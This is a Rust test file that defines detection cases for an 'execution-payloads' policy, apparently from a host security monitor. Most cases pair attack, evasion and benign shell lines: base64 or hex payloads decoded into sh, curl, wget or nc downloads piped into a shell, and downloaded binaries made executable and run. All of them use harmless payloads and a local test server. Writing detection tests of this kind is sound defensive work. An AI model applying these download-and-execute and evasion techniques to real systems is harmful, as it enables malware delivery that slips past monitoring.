//! Cases for the policy `execution-payloads`.

use std::{fs, process::Command};

use super::{Case, act, os};
use crate::scene::Scene;

/// The interpreter of the system; another may come first in the path.
const PYTHON: &str = "/usr/bin/python3";

/// Runs a shell script that lies in a file, so that no command line shows it. Its first argument is a new directory.
fn script(scene: &Scene, text: &str) -> u32 {
    script_in(scene, text, scene.directory().to_str().unwrap())
}

/// The same with another directory.
fn script_in(scene: &Scene, text: &str, directory: &str) -> u32 {
    let file = scene.file("script.sh");
    fs::write(&file, text).unwrap();
    scene.run(Command::new("/bin/sh").arg("-eu").arg(file).arg(directory))
}

/// The same with a directory in `/tmp`.
fn script_in_tmp(scene: &Scene, text: &str) -> u32 {
    let place = scene.place("/tmp");
    fs::create_dir(&place.path).unwrap();
    script_in(scene, text, place.path.to_str().unwrap())
}

/// The same with a server behind the port that is its second argument, which answers with these bytes.
fn served(scene: &Scene, text: &str, answer: &[u8]) -> u32 {
    served_to("/bin/sh", scene, text, answer)
}

/// The same with bash.
fn bash(scene: &Scene, text: &str, answer: &[u8]) -> u32 {
    served_to("/bin/bash", scene, text, answer)
}

fn served_to(shell: &str, scene: &Scene, text: &str, answer: &[u8]) -> u32 {
    let (file, place) = (scene.file("script.sh"), scene.directory());
    fs::write(&file, text).unwrap();
    scene.answered(answer, |port| {
        let mut command = Command::new(shell);
        for proxy in ["http_proxy", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY"] {
            command.env_remove(proxy);
        }
        command.arg("-eu").arg(file).arg(place).arg(port.to_string());
        command
    })
}

const HTTP: &[u8] = b"HTTP/1.0 200 OK\r\nContent-Length: 6\r\n\r\nid -u\n";

/// A script of several lines.
const LONG: &[u8] = b"HTTP/1.0 200 OK\r\nContent-Length: 18\r\n\r\n#!/bin/sh\nid -u\n:\n";

/// A whole program over HTTP.
fn program_over_http() -> Vec<u8> {
    let program = fs::read("/bin/true").unwrap();
    [format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", program.len()).as_bytes(), &program].concat()
}

pub const CASES: &[Case] = &[
    Case {
        rule: "Encoded code run by an interpreter",
        attacks: &[
            act("python", |s| {
                let code = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))";
                s.run(Command::new(PYTHON).args(["-c", code]))
            }),
            act("perl", |s| {
                s.run(Command::new("perl").args(["-MMIME::Base64", "-e", "eval(decode_base64('cHJpbnQgMQ=='))"]))
            }),
            act("shell", |s| s.shell("echo aWQgLXUK | base64 -d | sh", &[])),
        ],
        evasions: &[
            act("hexadecimal", |s| {
                let code = "exec(bytes.fromhex('7072696e74283129').decode())";
                s.run(Command::new(PYTHON).args(["-Sc", code]))
            }),
            act("substituted", |s| s.shell("bash -c \"$(echo aWQgLXUK | base64 -d)\"", &[])),
        ],
        benign: &[act("decoded_and_shown", |s| {
            let code = "import base64; print(base64.b64decode('cHJpbnQoMSk='))";
            s.shell("\"$1\" -c \"$2\"; echo c2VjcmV0 | base64 -d | wc -c", &[os(PYTHON), os(code)])
        })],
    },
    Case {
        rule: "Decoded payload piped into a shell",
        attacks: &[
            act("base64", |s| script(s, "echo aWQgLXUK | base64 -d | sh")),
            act("python_reads_it", |s| script(s, "echo cHJpbnQoMSkK | base64 --decode | /usr/bin/python3")),
        ],
        evasions: &[
            act("openssl", |s| script(s, "echo aWQgLXUK | openssl base64 -d | bash -s")),
            act("xxd", |s| script(s, "echo 6964202d750a | xxd -r -p | sh -x")),
            act("gzip", |s| script(s, "echo 'id -u' | gzip > $1/z; gunzip -c $1/z | sh")),
            act("renamed_decoder", |s| {
                script_in_tmp(s, "cp /usr/bin/base64 $1/notes; echo aWQgLXUK | $1/notes -d | sh")
            }),
        ],
        benign: &[act("decoded_text_and_plain_script", |s| {
            script(s, "echo c2VjcmV0 | base64 -d | cat; echo 'id -u' | cat | sh; echo 'id -u' | base64 | cat")
        }), act("generated_by_a_build_in_tmp", |s| {
            script_in_tmp(s, "cp /bin/echo $1/generate; $1/generate 'id -u' | sh")
        })],
    },
    Case {
        rule: "Unencrypted download piped into a shell",
        attacks: &[act("curl", |s| served(s, "curl -s http://127.0.0.1:$2/ | sh", HTTP))],
        evasions: &[
            act("nc", |s| served(s, "busybox nc 127.0.0.1 $2 < /dev/null | bash", b"id -u\n")),
            act("program_of_another_name", |s| {
                served(s, "cp /usr/bin/curl $1/update; $1/update -s http://127.0.0.1:$2/ | sh -s -- x", HTTP)
            }),
        ],
        benign: &[act("downloaded_and_shown", |s| {
            served(s, "curl -s http://127.0.0.1:$2/ | cat; echo 'id -u' | sh", HTTP)
        })],
    },
    Case {
        rule: "Unverified download piped into a shell",
        // Nobody answers: what is run shows it.
        attacks: &[act("curl", |s| script(s, "curl -sk --connect-timeout 2 https://localhost:9/ | sh"))],
        evasions: &[
            act("wget", |s| {
                script(s, "wget -q -t 1 -T 2 --no-check-certificate -O - https://localhost:9/ | bash -s -- x")
            }),
            act("address", |s| script(s, "curl -s --connect-timeout 2 https://127.0.0.1:9/x.sh | sh")),
        ],
        benign: &[act("shown_and_checked", |s| {
            script(
                s,
                "curl -sk --connect-timeout 2 https://localhost:9/ | cat; \
                curl -s --connect-timeout 2 https://localhost:9/ | cat; echo 'id -u' | sh",
            )
        })],
    },
    Case {
        rule: "Download given to a shell as its command",
        attacks: &[act("curl", |s| served(s, "bash -c \"$(curl -s http://127.0.0.1:$2/)\"; :", LONG))],
        evasions: &[act("wget", |s| {
            served(s, "sh -c \"$(wget -q -O - http://127.0.0.1:$2/)\" x; :", LONG)
        })],
        benign: &[act("asked_and_another_command", |s| {
            served(s, "answer=$(curl -s http://127.0.0.1:$2/); sh -c 'id -u'; echo \"$answer\" | wc -l", LONG)
        })],
    },
    Case {
        rule: "Download piped into a shell",
        attacks: &[act("curl", |s| served(s, "curl -s http://127.0.0.1:$2/ | sh", HTTP))],
        evasions: &[],
        benign: &[act("downloaded_and_shown", |s| {
            served(s, "curl -s http://127.0.0.1:$2/ | cat; echo 'id -u' | sh", HTTP)
        })],
    },
    Case {
        rule: "Payload read through a pipe",
        attacks: &[
            act("decoded", |s| bash(s, "bash <(echo aWQgLXUK | base64 -d)", b"")).showing(&["T1140"]),
            act("downloaded", |s| bash(s, "sh <(curl -s http://127.0.0.1:$2/)", HTTP)).showing(&["T1105"]),
        ],
        evasions: &[],
        benign: &[act("read_as_data", |s| bash(s, "cat <(echo aWQgLXUK | base64 -d); sh <(echo id -u)", b""))],
    },
    Case {
        rule: "Decoded file run",
        attacks: &[act("base64", |s| {
            script(s, "base64 /bin/true > $1/t; base64 -d $1/t > $1/p; chmod +x $1/p; $1/p")
        })],
        evasions: &[
            act("renamed", |s| {
                script(s, "base64 /bin/true > $1/t; base64 -d $1/t > $1/n; chmod +x $1/n; mv $1/n $1/p; $1/p")
            }),
            act("xxd", |s| script(s, "xxd -p /bin/true > $1/t; xxd -r -p $1/t > $1/p; chmod +x $1/p; $1/p")),
            act("gzip", |s| script_in_tmp(s, "gzip -c /bin/true > $1/t; gzip -dc $1/t > $1/p; chmod +x $1/p; $1/p")),
        ],
        benign: &[act("decoded_and_something_else_run", |s| {
            script(s, "base64 /bin/true > $1/t; base64 -d $1/t > $1/p; cp /bin/true $1/q; $1/q; cat $1/p")
        })],
    },
    Case {
        rule: "Decoded script run",
        attacks: &[
            act("base64", |s| script(s, "echo aWQgLXUK | base64 -d > $1/s; sh $1/s")),
            act("python", |s| script(s, "echo cHJpbnQoMSkK | base64 -d > $1/s; /usr/bin/python3 $1/s")),
        ],
        evasions: &[act("renamed", |s| script(s, "echo aWQgLXUK | base64 -d > $1/s; mv $1/s $1/t; sh $1/t")), act("as_a_program", |s| {
            script(s, "echo IyEvYmluL3NoCmlkIC11Cg== | openssl base64 -d > $1/s; chmod +x $1/s; cd $1; ./s")
        })],
        benign: &[act("decoded_settings", |s| {
            script(s, "echo c2VjcmV0Cg== | base64 -d > $1/s; read -r secret < $1/s; cat $1/s; echo true > $1/t; sh $1/t")
        }), act("generated_by_a_build_in_tmp", |s| {
            script_in_tmp(s, "cp /bin/echo $1/generate; $1/generate 'id -u' > $1/settings.sh; sh $1/settings.sh")
        })],
    },
    Case {
        rule: "Program written by inline code and run",
        attacks: &[
            act("python", |s| {
                let text = "/usr/bin/python3 -c \"import shutil; shutil.copy('/bin/true', '$1/p')\"; $1/p";
                script_in_tmp(s, text)
            })
            .showing(&["T1059.006"]),
            act("python_fetches_it", |s| {
                let place = s.place("/tmp");
                fs::create_dir(&place.path).unwrap();
                let code = "import os, sys, urllib.request
name, port = sys.argv[1:]
data = urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f'http://127.0.0.1:{port}/').read()
open(name, 'wb').write(data); os.chmod(name, 0o700)
os.spawnl(os.P_WAIT, name, name)";
                s.answered(&program_over_http(), |port| {
                    let mut command = Command::new(PYTHON);
                    command.args(["-c", code]).arg(place.path.join("p")).arg(port.to_string());
                    command
                })
            })
            .showing(&["T1105"]),
        ],
        evasions: &[act("openssl", |s| {
            let text = "openssl base64 -in /bin/true -out $1/t; openssl base64 -d -in $1/t -out $1/p; chmod +x $1/p; $1/p";
            script_in_tmp(s, text)
        })
        .showing(&["T1105"])],
        benign: &[act("script_in_a_file_and_data", |s| {
            let text = "echo \"import shutil; shutil.copy('/bin/true', '$1/p')\" > $1/s.py; /usr/bin/python3 $1/s.py; $1/p; \
                /usr/bin/python3 -c \"open('$1/d', 'w')\"";
            script_in_tmp(s, text)
        })],
    },
    Case {
        rule: "Unencrypted download run in a temporary directory",
        attacks: &[act("curl", |s| {
            let text = "d=$(mktemp -d /tmp/vedette-test-XXXXXX); curl -s -o $d/p http://127.0.0.1:$2/; \
                chmod +x $d/p; $d/p; rm -r $d";
            served(s, text, &program_over_http())
        })],
        evasions: &[act("renamed", |s| {
            let text = "d=$(mktemp -d /var/tmp/vedette-test-XXXXXX); wget -q -O $d/p http://127.0.0.1:$2/; \
                chmod +x $d/p; mv $d/p $1/q; $1/q; rm -r $d";
            served(s, text, &program_over_http())
        })],
        benign: &[act("downloaded_and_read", |s| {
            let text = "d=$(mktemp -d /tmp/vedette-test-XXXXXX); curl -s -o $d/p http://127.0.0.1:$2/; \
                cat $d/p; /bin/true; rm -r $d";
            served(s, text, HTTP)
        })],
    },
    Case {
        rule: "Unencrypted download run as a script",
        attacks: &[act("curl", |s| {
            let text = "d=$(mktemp -d /tmp/vedette-test-XXXXXX); curl -s -o $d/p http://127.0.0.1:$2/; sh $d/p; rm -r $d";
            served(s, text, HTTP)
        })],
        evasions: &[act("renamed", |s| {
            let text = "d=$(mktemp -d /tmp/vedette-test-XXXXXX); cd $d; wget -q -O p http://127.0.0.1:$2/; \
                mv p q; bash q; rm -r $d";
            served(s, text, HTTP)
        })],
        benign: &[act("downloaded_and_read", |s| {
            let text = "d=$(mktemp -d /tmp/vedette-test-XXXXXX); curl -s -o $d/p http://127.0.0.1:$2/; cat $d/p; \
                echo 'id -u' > $d/q; sh $d/q; rm -r $d";
            served(s, text, HTTP)
        })],
    },
    Case {
        rule: "Downloaded program run",
        attacks: &[
            act("curl", |s| {
                served(s, "curl -s -o $1/p http://127.0.0.1:$2/; chmod +x $1/p; $1/p", &program_over_http())
            })
            .showing(&["T1105"]),
            // The far end of scp and sftp.
            act("received_by_ssh", |s| {
                let (server, to) = (s.executable("sftp-server"), s.directory().join("tool"));
                s.shell("\"$1\" --act copy /bin/true \"$2\"; \"$2\"", &[os(&server), os(&to)])
            })
            .showing(&["T1570"]),
        ],
        evasions: &[act("renamed", |s| {
            let text = "curl -s -o $1/p http://127.0.0.1:$2/; chmod +x $1/p; mv $1/p $1/q; $1/q";
            served(s, text, &program_over_http())
        })
        .showing(&["T1105"])],
        benign: &[act("downloaded_and_read", |s| {
            served(s, "curl -s -o $1/p http://127.0.0.1:$2/; cat $1/p; /bin/true", HTTP)
        })],
    },
    Case {
        rule: "Downloaded script run",
        attacks: &[act("curl", |s| served(s, "curl -s -o $1/p http://127.0.0.1:$2/; sh $1/p", HTTP))],
        evasions: &[act("renamed_and_a_program", |s| {
            let text = "curl -s -o $1/p http://127.0.0.1:$2/; mv $1/p $1/q; chmod +x $1/q; cd $1; sh q";
            served(s, text, HTTP)
        })],
        benign: &[act("downloaded_and_read", |s| {
            served(s, "curl -s -o $1/p http://127.0.0.1:$2/; cat $1/p; echo id > $1/q; sh $1/q", HTTP)
        })],
    },
    Case {
        rule: "Redirected download run",
        attacks: &[act("curl", |s| served(s, "curl -s http://127.0.0.1:$2/ > $1/p; sh $1/p", HTTP))],
        evasions: &[],
        benign: &[act("downloaded_and_read", |s| {
            served(s, "curl -s http://127.0.0.1:$2/ > $1/p; cat $1/p; echo id > $1/q; sh $1/q", HTTP)
        })],
    },
    Case {
        rule: "Compiled and run in a temporary directory",
        attacks: &[act("gcc", |s| {
            script_in_tmp(s, "echo 'int main(void) { return 0; }' > $1/x.c; gcc -o $1/x $1/x.c; $1/x")
        })],
        evasions: &[],
        benign: &[act("elsewhere", |s| {
            script(s, "echo 'int main(void) { return 0; }' > $1/x.c; gcc -o $1/x $1/x.c; $1/x")
        })],
    },
];
